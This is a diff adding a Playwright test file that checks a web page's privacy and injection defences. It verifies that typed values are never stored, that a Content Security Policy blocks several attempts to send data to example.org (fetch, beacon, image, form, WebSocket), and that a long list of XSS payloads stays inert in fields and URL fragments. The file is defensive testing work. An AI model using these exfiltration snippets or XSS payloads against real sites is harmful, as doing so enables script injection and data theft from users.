@@ -1,0 +1,156 @@
+"""Private by construction: the page asks nobody but its own site, keeps nothing, and runs no text it is given."""
+
+import json
+import re
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect
+
+from tests.browser.desk import Desk
+
+Open = Callable[[str], Desk]
+
+TYPED = "1654.321"
+
+STORED = """async () => {
+    const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
+    for (const { name } of await indexedDB.databases()) {
+        const open = indexedDB.open(name);
+        const base = await new Promise((resolve) => (open.onsuccess = () => resolve(open.result)));
+        for (const store of base.objectStoreNames) {
+            const all = base.transaction(store).objectStore(store).getAll();
+            found.push(JSON.stringify(await new Promise((resolve) => (all.onsuccess = () => resolve(all.result)))));
+        }
+        base.close();
+    }
+    for (const name of await caches.keys()) {
+        for (const { url } of await (await caches.open(name)).keys()) found.push(url);
+    }
+    return found;
+}"""
+
+
+def test_nothing_that_was_typed_is_stored(page: Page, context: BrowserContext, site: str) -> None:
+    page.goto(site)
+    for name in ("Game", "Target", "Win rate", "Climb"):
+        page.get_by_role("tab", name=name).click()
+        desk = Desk(page)
+        for field in desk.panel.get_by_role("textbox").all():
+            field.fill(TYPED)
+    desk.wait_until_ready()
+    for found in page.evaluate(STORED):
+        assert "1654" not in found
+    assert context.cookies() == []
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "fetch('https://example.org/?typed')",
+        "navigator.sendBeacon('https://example.org/', 'typed')",
+        "document.body.append(Object.assign(new Image(), { src: 'https://example.org/typed.png' }))",
+        "(() => { const form = document.createElement('form'); form.action = 'https://example.org/';"
+        " document.body.append(form); form.submit(); })()",
+        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.org/a.js' }))",
+        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))",
+        "new WebSocket('wss://example.org/')",
+        "document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(//x)' }))",
+    ],
+)
+def test_no_attempt_to_send_data_elsewhere_succeeds(context: BrowserContext, site: str, attempt: str) -> None:
+    page = context.new_page()
+    refused: list[str] = []
+    reached: list[str] = []
+
+    def console(message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text or "content security policy" in message.text.lower():
+            refused.append(message.text)
+
+    page.on("console", console)
+    context.on("request", lambda request: reached.append(request.url) if "example.org" in request.url else None)
+    context.on("requestfailed", lambda request: reached.remove(request.url) if request.url in reached else None)
+    page.goto(site)
+    page.evaluate(f"void {attempt}" if not attempt.startswith("new ") else f"try {{ {attempt} }} catch {{}}")
+    page.wait_for_load_state("networkidle")
+    assert refused
+    assert reached == []
+    assert page.url.startswith(site)
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" onfocus=alert(1) autofocus="',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<style>@import 'javascript:alert(1)'</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=refresh content=0;javascript:alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "{you}",
+    "{0.__class__}",
+    "%s%s%s",
+    "__proto__",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<xss style=animation-name:x onanimationstart=alert(1)>",
+    "<button formaction=javascript:alert(1)>x",
+    "<marquee onstart=alert(1)>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "\u2028alert(1)\u2028",
+]
+
+
+ACTIVE = "script, img, iframe, object, embed, video, audio, link, meta, style, base, math, marquee, template"
+
+
+def test_markup_in_any_field_stays_text(desk: Open) -> None:
+    game = desk("game")
+    page = game.page
+    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+    elements = page.locator(ACTIVE).count()
+    for name in ("game", "target", "win-rate", "climb"):
+        opened = desk(name)
+        for field in opened.panel.get_by_role("textbox").all():
+            for attack in ATTACKS:
+                field.fill(attack)
+        expect(opened.state).to_contain_text("Out of date")
+    assert page.locator(ACTIVE).count() == elements
+
+
+def test_markup_in_a_link_stays_text(desk: Open) -> None:
+    page = desk("game").page
+    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+    elements = page.locator(ACTIVE).count()
+    for attack in ATTACKS:
+        fragment = f"game?you={attack}"
+        page.evaluate(f"location.hash = {json.dumps(fragment)}")
+        expect(page).not_to_have_url(re.compile(r"\?"))
+        page.evaluate("(name) => { location.hash = name }", attack)
+    assert page.locator(ACTIVE).count() == elements
+    assert page.locator("script").count() == 1
